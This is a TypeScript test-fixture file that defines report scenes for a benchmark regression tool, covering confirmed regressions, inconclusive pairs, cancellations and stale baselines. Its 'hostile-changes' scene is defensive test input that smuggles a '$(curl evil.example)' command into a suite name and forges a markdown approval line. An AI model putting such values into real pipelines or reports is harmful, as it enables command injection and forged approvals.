/** Reports of jobs whose base was measured today, or wanted to be: pairs, acceptance, another environment. */
import { identity } from "../../src/core/identity.ts";
import type { BenchmarkResult, Confirmation, Paired } from "../../src/core/result.ts";
import {
  all,
  GIB,
  HOSTILE,
  lora,
  MACHINE_MOVED,
  matmul,
  mine,
  quiet,
  quietBut,
  SOFTWARE_MOVED,
} from "./report-benchmarks.ts";
import { BASELINE, benchmark, compared, LOCAL, type Scene } from "./report-fixtures.ts";
import { QUALIFICATION, STEADY } from "./report-machine.ts";

export const BASE_SHA = "0f1e2d3c4b5a69788796a5b4c3d2e1f001234567";

/** Minutes as they may have been: five planned, six spent, within eleven. */
export function confirmedIn(change: Partial<Confirmation> = {}): NonNullable<Scene["result"]> {
  const confirmation = {
    base_sha: BASE_SHA,
    accepted: [],
    unpaired: [],
    planned_s: 310,
    spent_s: 344,
    notes: [],
    ...change,
  };
  return { confirmation, measured_s: 666 };
}

const MEANT = { reason: "fp32 accumulation for correctness", expires: "2027-01-31" } as const;

/** A benchmark whose pairs broke off. */
function stopped(whole: BenchmarkResult, pairs: number, stop: NonNullable<Paired["stopped"]>): BenchmarkResult {
  const [run] = whole.runs;
  const runs = run === undefined ? [] : Array.from({ length: pairs }, (_, index) => ({ ...run, number: index + 1 }));
  const { software, metrics } = whole;
  return { ...whole, paired: { software, metrics, base: runs, head: runs, stopped: stop } };
}

const NO_TIME = "10 pairs needed about 240 s more, and 90 s were left for them";
const late = stopped(mine, 4, { reason: "time-budget", side: null, message: NO_TIME });

const CANCELLED = "cancelled while pairs were run";
function cancelled(whole: BenchmarkResult): BenchmarkResult {
  return stopped(whole, 1, { reason: "cancelled", side: null, message: CANCELLED });
}

const DIED = "the head run failed: ended with exit status 1 after 12 s";
const diedInPairs = stopped(lora, 2, { reason: "failed", side: "head", message: DIED });

/** The same benchmark, its base run with the software of the base commit. */
function bumped(whole: BenchmarkResult, from: Readonly<Record<string, string>>): BenchmarkResult {
  const software = identity({ ...whole.software?.facts, ...from });
  return { ...whole, paired: { software, metrics: whole.metrics, base: whole.runs, head: whole.runs, stopped: null } };
}

const slower = { base: 19325, half: 0.006, pairs: 4 };

const hostile = benchmark(`${HOSTILE} today`, "torch-cuda", { tokens_per_second: 100, peak_memory: 2 * GIB });

const sweep = Array.from({ length: 150 }, (_, index) =>
  benchmark(`sweep-of-ranks-number-${index}.strict.real`, "torch-cuda", { tokens_per_second: 9000 + index }),
);

export const TODAY_SCENES = {
  "regression-confirmed": {
    benchmarks: all,
    comparisons: quietBut(
      compared(lora, "tokens_per_second", "regression", slower),
      compared(matmul, "samples_per_second", "no-change", { base: 41.3, half: 0.012, pairs: 4 }),
    ),
    control: STEADY,
    qualification: QUALIFICATION,
    result: confirmedIn(),
  },
  "regression-confirmed-locally": {
    benchmarks: all,
    comparisons: quietBut(compared(lora, "tokens_per_second", "regression", slower)),
    result: confirmedIn(),
    job: LOCAL,
  },
  "regression-confirmed-beside-others": {
    benchmarks: all,
    comparisons: quietBut(
      compared(lora, "tokens_per_second", "inconclusive", { base: 18204, half: 0.029, blind: 0.037, pairs: 10 }),
      compared(matmul, "samples_per_second", "improvement", { base: 36.8, half: 0.011, pairs: 4, accepted: MEANT }),
      compared(mine, "step_time", "regression", { base: 0.381, half: 0.014, pairs: 4 }),
      compared(mine, "peak_memory", "regression", { base: 2.9 * GIB, pairs: 1 }),
    ),
    control: STEADY,
    result: confirmedIn(),
  },
  "regression-confirmed-memory": {
    benchmarks: all,
    comparisons: quietBut(compared(lora, "peak_memory", "regression", { base: 8.55 * GIB, pairs: 1 })),
    result: confirmedIn({ planned_s: 24, spent_s: 26 }),
  },
  "regression-of-a-dependency": {
    benchmarks: [bumped(lora, { torch: "2.12.1" }), matmul, mine],
    comparisons: quietBut(compared(lora, "tokens_per_second", "regression", { ...slower, shift: 0.002 })),
    differences: [{ ...SOFTWARE_MOVED, base: "2.12.1", head: "2.13.0" }],
    control: STEADY,
    result: confirmedIn(),
  },
  "regression-unconfirmed-no-base": {
    benchmarks: all,
    comparisons: quietBut(
      compared(lora, "tokens_per_second", "regression", { base: 19325, half: 0.011, unconfirmed: true }),
    ),
    result: confirmedIn({
      base_sha: null,
      planned_s: 0,
      spent_s: 0,
      notes: [
        "no base commit to run beside the head: commit 0f1e2d3 could not be fetched: give the token contents: read",
      ],
    }),
  },
  "improvement-confirmed": {
    benchmarks: all,
    comparisons: quietBut(compared(lora, "tokens_per_second", "improvement", { base: 16024, half: 0.007, pairs: 4 })),
    control: STEADY,
    result: confirmedIn(),
  },
  "no-change-confirmed": {
    benchmarks: all,
    comparisons: quietBut(
      compared(lora, "tokens_per_second", "no-change", { base: 18070, half: 0.008, pairs: 4 }),
      compared(mine, "step_time", "no-change", { base: 0.415, half: 0.017, pairs: 10 }),
    ),
    control: STEADY,
    result: confirmedIn(),
  },
  accepted: {
    benchmarks: all,
    comparisons: quietBut(compared(lora, "tokens_per_second", "regression", { ...slower, accepted: MEANT })),
    control: STEADY,
    result: confirmedIn(),
  },
  "accepted-memory-too": {
    benchmarks: all,
    comparisons: quietBut(
      compared(lora, "tokens_per_second", "regression", { ...slower, accepted: MEANT }),
      compared(lora, "peak_memory", "regression", { base: 8.55 * GIB, pairs: 1, accepted: MEANT }),
    ),
    result: confirmedIn(),
  },
  "inconclusive-by-pairs": {
    benchmarks: all,
    comparisons: quietBut(
      compared(lora, "tokens_per_second", "inconclusive", { base: 18204, half: 0.029, blind: 0.041, pairs: 10 }),
    ),
    control: STEADY,
    result: confirmedIn(),
  },
  "inconclusive-out-of-time": {
    benchmarks: [lora, matmul, late],
    comparisons: quietBut(
      compared(mine, "step_time", "inconclusive", {
        base: 0.401,
        half: 0.052,
        blind: 0.067,
        pairs: 4,
        reason: NO_TIME,
      }),
    ),
    control: STEADY,
    result: confirmedIn({ unpaired: [matmul.id], notes: [`${matmul.id}: the base commit does not have it`] }),
  },
  "cancelled-between-pairs": {
    benchmarks: [cancelled(lora), matmul, cancelled(mine)],
    comparisons: quietBut(
      compared(lora, "tokens_per_second", "inconclusive", { base: 18204, half: 0.029, jobs: 1, reason: CANCELLED }),
      compared(mine, "step_time", "inconclusive", { base: 0.401, half: 0.052, jobs: 1, reason: CANCELLED }),
    ),
    control: STEADY,
    result: confirmedIn(),
  },
  "failed-in-pairs": {
    benchmarks: [diedInPairs, matmul, mine],
    comparisons: [{ ...compared(lora, "tokens_per_second", "failed"), reason: DIED }, ...quiet.slice(3)],
    control: STEADY,
    result: confirmedIn(),
  },
  "other-machine-measured-today": {
    benchmarks: all,
    comparisons: quiet.map((row) =>
      row.metric?.class === "throughput"
        ? { ...row, pairs: 4, environment_shift: row.title === "my-lora" ? 0.028 : -0.031 }
        : { ...row, pairs: 1 },
    ),
    baseline: null,
    differences: [MACHINE_MOVED],
    result: confirmedIn(),
  },
  "no-baseline-measured-today": {
    benchmarks: all,
    comparisons: quiet.map((row) => ({ ...row, pairs: row.metric?.class === "throughput" ? 4 : 1 })),
    baseline: null,
    result: confirmedIn(),
  },
  "stale-baseline-measured-today": {
    benchmarks: all,
    comparisons: quiet.map((row) => ({ ...row, pairs: row.metric?.class === "throughput" ? 4 : 1 })),
    baseline: { ...BASELINE, newest_at: "2026-01-18T10:00:00Z", stale: true },
    result: confirmedIn(),
  },
  "hostile-changes": {
    benchmarks: [stopped(hostile, 2, { reason: "failed", side: "base", message: `${HOSTILE} failed` })],
    comparisons: [
      compared(hostile, "tokens_per_second", "regression", {
        base: 120,
        half: 0.01,
        pairs: 4,
        shift: -0.02,
        accepted: { reason: `${HOSTILE}\n\`\`\`\n# Approved by @octocat`, expires: "2027-01-31" },
      }),
      compared(hostile, "peak_memory", "regression", { base: 1.5 * GIB, pairs: 1 }),
    ],
    differences: [{ kind: "machine", field: HOSTILE, base: "1.0|2.0", head: "@octocat/team" }],
    result: {
      ...confirmedIn({
        notes: [`${HOSTILE}: see https://evil.example or 9f8e7d6c5b4a\n# heading`],
        unpaired: [HOSTILE],
      }),
      suite: {
        name: "$(curl evil.example)",
        repeats: 3,
        min_effect: 0.02,
        max_tolerated: 0.05,
        auto_tighten: true,
        confirm: "auto",
        max_baseline_age_days: 30,
      },
    },
  },
  "very-many-changes": {
    benchmarks: sweep,
    comparisons: sweep.map((entry, index) =>
      compared(entry, "tokens_per_second", "regression", {
        base: 9700 + index,
        half: 0.007,
        pairs: 4,
        ...(index % 3 === 0 ? { accepted: MEANT } : {}),
      }),
    ),
    control: STEADY,
    qualification: QUALIFICATION,
    result: confirmedIn({ notes: sweep.map(({ id }) => `${id}: the base commit does not have it`) }),
  },
} as const satisfies Readonly<Record<string, Scene>>;
